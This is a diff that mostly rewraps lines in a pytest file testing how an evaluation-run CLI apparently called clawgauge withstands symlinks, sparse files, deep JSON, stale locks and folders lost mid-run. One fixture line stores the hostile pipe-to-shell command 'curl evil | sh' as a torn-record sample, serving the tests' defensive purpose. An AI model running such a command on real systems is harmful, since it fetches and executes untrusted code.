@@ -41,7 +41,9 @@ READING = (
 )
 WRITING = (("summarize", "r"), ("rescore", "r"), ("report", "r"), ("route", "r"))
 TORN = b'{"record_type": "result", "curl evil | sh'
-pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs links, pipes and descriptors of folders")
+pytestmark = pytest.mark.skipif(
+    sys.platform == "win32", reason="needs links, pipes and descriptors of folders"
+)
 
 
 @pytest.fixture(autouse=True)
@@ -62,7 +64,12 @@ def runs(tmp_path: Path) -> Path:
     """`runs/r` from a stranger and `runs/good` of one's own, each with two answers and a plan."""
     for name in ("r", "good"):
         prompts = [prompt("P0"), prompt("P1")]
-        write_run(tmp_path / "runs" / name, [record("P0"), record("P1")], config=config(prompts), inventory=inventory())
+        write_run(
+            tmp_path / "runs" / name,
+            [record("P0"), record("P1")],
+            config=config(prompts),
+            inventory=inventory(),
+        )
     return tmp_path / "runs"
 
 
@@ -72,7 +79,11 @@ def tree(folder: Path) -> dict[str, tuple[int, int, bytes | str]]:
         path.name: (
             path.lstat().st_mode,
             path.lstat().st_mtime_ns,
-            str(path.readlink()) if path.is_symlink() else path.read_bytes() if path.is_file() else "",
+            str(path.readlink())
+            if path.is_symlink()
+            else path.read_bytes()
+            if path.is_file()
+            else "",
         )
         for path in folder.iterdir()
     }
@@ -106,8 +117,12 @@ LINKED = (".lock", "results.torn", "events.jsonl", "results.jsonl", "summary.md"
 RESUME = ("run", "--resume", "r", "--retry-errors")
 
 
-@pytest.mark.parametrize("case", slow_rest(itertools.product((*WRITING, RESUME), LINKED), every=5), ids=str)
-def test_no_verb_writes_through_a_link(runs: Path, victim: Path, case: tuple[tuple[str, ...], str]) -> None:
+@pytest.mark.parametrize(
+    "case", slow_rest(itertools.product((*WRITING, RESUME), LINKED), every=5), ids=str
+)
+def test_no_verb_writes_through_a_link(
+    runs: Path, victim: Path, case: tuple[tuple[str, ...], str]
+) -> None:
     """Whichever file of a folder is a link to the user's own, symbolic or hard, its bytes stay as they were."""
     verb, name = case
     before = victim.read_bytes()
@@ -124,13 +139,19 @@ def test_no_verb_writes_through_a_link(runs: Path, victim: Path, case: tuple[tup
 @pytest.mark.parametrize("name", ["report.html", "routing_openclaw.md", "summary.json"])
 def test_a_link_where_a_verb_writes_is_refused_by_name(runs: Path, victim: Path, name: str) -> None:
     """What would be replaced is said, and neither the link nor what it points to is touched."""
-    verb = {"report.html": "report", "routing_openclaw.md": "route", "summary.json": "summarize"}[name]
+    verb = {"report.html": "report", "routing_openclaw.md": "route", "summary.json": "summarize"}[
+        name
+    ]
     (runs / "r" / name).unlink(missing_ok=True)
     (runs / "r" / name).symlink_to(victim)
     victim.chmod(0o644)
-    (runs / "r").chmod(0o700)  # what is made of a private folder is private: not what a link in it leads to
+    (runs / "r").chmod(
+        0o700
+    )  # what is made of a private folder is private: not what a link in it leads to
     done = clawgauge(runs.parent, verb, "r")
-    assert f"{name} is a symbolic link" in done.stderr and done.code == (0 if verb == "route" else 2)
+    assert f"{name} is a symbolic link" in done.stderr and done.code == (
+        0 if verb == "route" else 2
+    )
     assert victim.read_text() == "export PATH\n" and (runs / "r" / name).is_symlink()
     assert victim.stat().st_mode & 0o777 == 0o644
     assert not list((runs / "r").glob(".*"))
@@ -163,7 +184,9 @@ CASES = slow_rest(itertools.product(("config.json", "results.jsonl"), KINDS), ev
 
 
 @pytest.mark.parametrize("case", CASES, ids=str)
-def test_what_is_no_file_is_named_by_every_verb_and_hangs_none(runs: Path, case: tuple[str, str]) -> None:
+def test_what_is_no_file_is_named_by_every_verb_and_hangs_none(
+    runs: Path, case: tuple[str, str]
+) -> None:
     """One sentence and exit 2; `history` lists the others and gives this folder a line; `latest` is another run.
 
     Rows can be exported without a plan: there a spoilt config.json is in nobody's way.
@@ -179,30 +202,48 @@ def test_what_is_no_file_is_named_by_every_verb_and_hangs_none(runs: Path, case:
         elif words == ("export", "r") and name == "config.json":
             assert done.code == 0
         elif words != ("run", "--resume", "r"):
-            assert done.code == 2 and is_one_sentence(done) and f"{name} is a" in done.stderr, (words, done.stderr)
+            assert done.code == 2 and is_one_sentence(done) and f"{name} is a" in done.stderr, (
+                words,
+                done.stderr,
+            )
     os.utime(runs / "r", (4e9, 4e9))
     assert clawgauge(runs.parent, "show", "latest").code == 0
 
 
 @pytest.mark.parametrize(
-    "name", slow_rest(["config.json", "inventory.json", "summary.json", "events.jsonl", "results.jsonl"], every=4)
+    "name",
+    slow_rest(
+        ["config.json", "inventory.json", "summary.json", "events.jsonl", "results.jsonl"], every=4
+    ),
 )
 def test_ten_gigabytes_of_nothing_are_no_memory_and_no_wait(runs: Path, name: str) -> None:
     """A sparse file is refused by its size, or skipped where lines are streamed; nobody runs out of memory."""
     path = runs / "r" / name
     path.touch()
     os.truncate(path, 10 << 30)
-    for words in (("show", "r"), ("summarize", "r"), ("history",), ("route", "r", "--reasons", "why.md")):
+    for words in (
+        ("show", "r"),
+        ("summarize", "r"),
+        ("history",),
+        ("route", "r", "--reasons", "why.md"),
+    ):
         done = clawgauge(runs.parent, *words)
         assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
         assert done.code in (0, 2, 5), done.stderr
-    assert shutil.disk_usage(runs).free and sum(file.stat().st_blocks for file in (runs / "r").iterdir()) < 10_000
+    assert (
+        shutil.disk_usage(runs).free
+        and sum(file.stat().st_blocks for file in (runs / "r").iterdir()) < 10_000
+    )
 
 
 def _swell(document: dict[str, Any], unit: bytes, mib: int) -> bytes:
     """A document in which the text `@` has become a list of so many of these."""
     n_units = (mib << 20) // len(unit)
-    return json.dumps(document).encode().replace(b'"@"', b"[" + unit * n_units + unit.rstrip(b",") + b"]")
+    return (
+        json.dumps(document)
+        .encode()
+        .replace(b'"@"', b"[" + unit * n_units + unit.rstrip(b",") + b"]")
+    )
 
 
 def _swollen_folder(folder: Path, kind: str) -> None:
@@ -225,7 +266,14 @@ def _swollen_folder(folder: Path, kind: str) -> None:
 
 @pytest.mark.parametrize(
     "kind",
-    ["tools", "a row", *(pytest.param(kind, marks=pytest.mark.slow) for kind in ("unknown key", "prompts", "events"))],
+    [
+        "tools",
+        "a row",
+        *(
+            pytest.param(kind, marks=pytest.mark.slow)
+            for kind in ("unknown key", "prompts", "events")
+        ),
+    ],
 )
 def test_a_file_of_brackets_takes_no_more_memory_than_a_file_of_text(runs: Path, kind: str) -> None:
     """Two bytes are a list of seventy: a hundred kilobytes in a letter, and gigabytes here."""
@@ -236,7 +284,10 @@ def test_a_file_of_brackets_takes_no_more_memory_than_a_file_of_text(runs: Path,
         assert peak_mib < 700, words
     if kind in ("prompts", "tools", "unknown key"):
         shown = clawgauge(runs.parent, "show", "r")
-        assert is_one_sentence(shown) and "config.json holds more than 4,000,000 values" in shown.stderr
+        assert (
+            is_one_sentence(shown)
+            and "config.json holds more than 4,000,000 values" in shown.stderr
+        )
 
 
 def test_a_plan_nested_deeper_than_anyone_writes_is_refused_in_a_sentence(runs: Path) -> None:
@@ -246,12 +297,19 @@ def test_a_plan_nested_deeper_than_anyone_writes_is_refused_in_a_sentence(runs: 
     (runs / "r" / "config.json").write_bytes(json.dumps(plan).encode().replace(b'"@"', deep))
     for words in (("show", "r"), ("rescore", "r"), ("run", "--resume", "r")):
         done = clawgauge(runs.parent, *words)
-        assert done.code == 2 and "nested more than 128 levels deep" in done.stderr, (words, done.stderr)
+        assert done.code == 2 and "nested more than 128 levels deep" in done.stderr, (
+            words,
+            done.stderr,
+        )
         assert "Traceback" not in done.stderr
 
 
-@pytest.mark.parametrize("content", [b"garbage\x00\xff" * 100, b"", b"[" * 5000, b'{"pid": 10e400}', None])
-def test_a_foreign_lock_file_locks_nothing_and_says_nothing(runs: Path, content: bytes | None) -> None:
+@pytest.mark.parametrize(
+    "content", [b"garbage\x00\xff" * 100, b"", b"[" * 5000, b'{"pid": 10e400}', None]
+)
+def test_a_foreign_lock_file_locks_nothing_and_says_nothing(
+    runs: Path, content: bytes | None
+) -> None:
     """Whatever a lock file holds, even ten gigabytes of nothing, only a living writer keeps another one out."""
     lock = runs / "r" / ".lock"
     if content is None:
@@ -268,7 +326,9 @@ def test_a_folder_of_rubbish_does_not_end_the_history(runs: Path) -> None:
     (runs / "deep").mkdir()
     (runs / "deep" / "config.json").write_bytes(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}")
     (runs / "old").mkdir()
-    (runs / "old" / "config.json").write_text(json.dumps(config([prompt("P0")]) | {"created_at_ms": 10**300}))
+    (runs / "old" / "config.json").write_text(
+        json.dumps(config([prompt("P0")]) | {"created_at_ms": 10**300})
+    )
     (runs / "loop").symlink_to("loop")
     (runs / "gone").symlink_to(runs / "nowhere")
     (runs / "file").write_text("no folder")
@@ -307,9 +367,15 @@ def test_a_plan_that_nobody_could_have_made_is_refused(runs: Path, key: str, val
 def test_numbers_of_any_length_beside_the_results_spoil_nothing(runs: Path) -> None:
     """An event, a summary or an inventory with a number of 400 digits is left out or refused in a sentence."""
     huge = 10**400
-    detail = {"energy_j": {"cpu": huge}, "limit": huge, "budget": "max_calls", "peak_memory_bytes": huge}
+    detail = {
+        "energy_j": {"cpu": huge},
+        "limit": huge,
+        "budget": "max_calls",
+        "peak_memory_bytes": huge,
+    }
     events = [
-        {"event": kind, "at_ms": 1, "target": LABEL, "detail": detail} for kind in ("target_finished", "budget_spent")
+        {"event": kind, "at_ms": 1, "target": LABEL, "detail": detail}
+        for kind in ("target_finished", "budget_spent")
     ]
     (runs / "r" / "events.jsonl").write_text("".join(json.dumps(event) + "\n" for event in events))
     assert clawgauge(runs.parent, "summarize", "r").code == 0
@@ -341,7 +407,9 @@ def test_leftovers_of_others_are_left_alone(runs: Path, victim: Path) -> None:
     (runs / "r" / ".summary.md.1-a.tmp").symlink_to(victim)
     assert clawgauge(runs.parent, "summarize", "r").code == 0
     assert (
-        not ours.exists() and (runs / "r" / ".notes.tmp").exists() and (runs / "r" / ".summary.md.1-a.tmp").is_symlink()
+        not ours.exists()
+        and (runs / "r" / ".notes.tmp").exists()
+        and (runs / "r" / ".summary.md.1-a.tmp").is_symlink()
     )
 
 
@@ -379,7 +447,9 @@ def test_a_folder_that_may_only_be_read_is_read(runs: Path) -> None:
     try:
         for words, code in ((("show", "r"), 0), (("report", "r"), 2), (("summarize", "r"), 2)):
             child = [sys.executable, "-c", AS_NOBODY, *words]
-            done = subprocess.run(child, cwd=place, capture_output=True, timeout=PATIENCE_S, text=True)
+            done = subprocess.run(
+                child, cwd=place, capture_output=True, timeout=PATIENCE_S, text=True
+            )
             assert done.returncode == code, done.stderr
             assert code == 0 or done.stderr.count("clawgauge: Cannot write") == 1
     finally:
@@ -391,7 +461,9 @@ def test_a_folder_that_may_only_be_read_is_read(runs: Path) -> None:
 # What happens to a folder while a run writes it.
 
 
-def test_deleting_the_lock_file_lets_no_second_writer_in(place: Path, server: ScriptedServer) -> None:
+def test_deleting_the_lock_file_lets_no_second_writer_in(
+    place: Path, server: ScriptedServer
+) -> None:
     """The lock is the folder's: without the file the second process is still refused, and still told who it is."""
     server.script(Text("yes"), SLOW)
     with started(place, *RUN, "--run-id", "held") as holder:
@@ -401,7 +473,9 @@ def test_deleting_the_lock_file_lets_no_second_writer_in(place: Path, server: Sc
             refused = clawgauge(place, *words)
             assert refused.code == 4 and "is being written by " in refused.stderr
             if Path("/proc/locks").exists():
-                assert f"process {holder.pid}" in refused.stderr or "another process" in refused.stderr
+                assert (
+                    f"process {holder.pid}" in refused.stderr or "another process" in refused.stderr
+                )
         assert not (place / "runs" / "held" / ".lock").exists()
         holder.send_signal(signal.SIGKILL)
         ended(holder)
@@ -415,7 +489,11 @@ def test_a_writer_that_knows_only_the_lock_file_is_respected(runs: Path) -> None
         fcntl.flock(old, fcntl.LOCK_EX | fcntl.LOCK_NB)
         with pytest.raises(RunLocked):
             RunFolder.open_existing(runs / "r")
-    with RunFolder.open_existing(runs / "r"), (runs / "r" / ".lock").open("r") as old, pytest.raises(BlockingIOError):
+    with (
+        RunFolder.open_existing(runs / "r"),
+        (runs / "r" / ".lock").open("r") as old,
+        pytest.raises(BlockingIOError),
+    ):
         fcntl.flock(old, fcntl.LOCK_EX | fcntl.LOCK_NB)
 
 
@@ -426,7 +504,10 @@ LOSSES: dict[str, Callable[[Path], object]] = {
         folder.rename(folder.with_name("moved")),
         shutil.copytree(folder.with_name("moved"), folder),
     ),
-    "replaced by a link": lambda folder: (folder.rename(folder.with_name("moved")), folder.symlink_to("/tmp")),
+    "replaced by a link": lambda folder: (
+        folder.rename(folder.with_name("moved")),
+        folder.symlink_to("/tmp"),
+    ),
     "its results deleted": lambda folder: (folder / "results.jsonl").unlink(),
     "its results replaced": lambda folder: (
         shutil.copy(folder / "results.jsonl", folder / "copy"),
@@ -440,7 +521,9 @@ LOSSES: dict[str, Callable[[Path], object]] = {
 
 
 @pytest.mark.parametrize("loss", LOSSES)
-def test_a_folder_lost_in_mid_run_ends_it_at_the_next_write(place: Path, server: ScriptedServer, loss: str) -> None:
+def test_a_folder_lost_in_mid_run_ends_it_at_the_next_write(
+    place: Path, server: ScriptedServer, loss: str
+) -> None:
     """No more calls are paid for than the one under way: exit 4, one sentence, and no pass that nobody can read."""
     folder = place / "runs" / "lost"
 
@@ -462,7 +545,13 @@ def test_tokens_no_server_can_have_counted_cost_no_row(place: Path, server: Scri
     done = clawgauge(place, *RUN, "--run-id", "r", "--repeats", "3")
     assert done.code == 0, done.stderr
     (group,) = done.summary()["models"]
-    assert done.summary()["n_unreadable_lines"] == 0 and group["n_total"] == 12 == len(read_records(done.folder))
-    assert group["n_passed"] == sum(row["objective_pass"] is True for row in read_records(done.folder)) > 0
+    assert done.summary()["n_unreadable_lines"] == 0 and group["n_total"] == 12 == len(
+        read_records(done.folder)
+    )
+    assert (
+        group["n_passed"]
+        == sum(row["objective_pass"] is True for row in read_records(done.folder))
+        > 0
+    )
     for words in (("show", "r"), ("export", "r"), ("report", "r", "-o", "p.html"), ("history",)):
         assert clawgauge(place, *words).code == 0
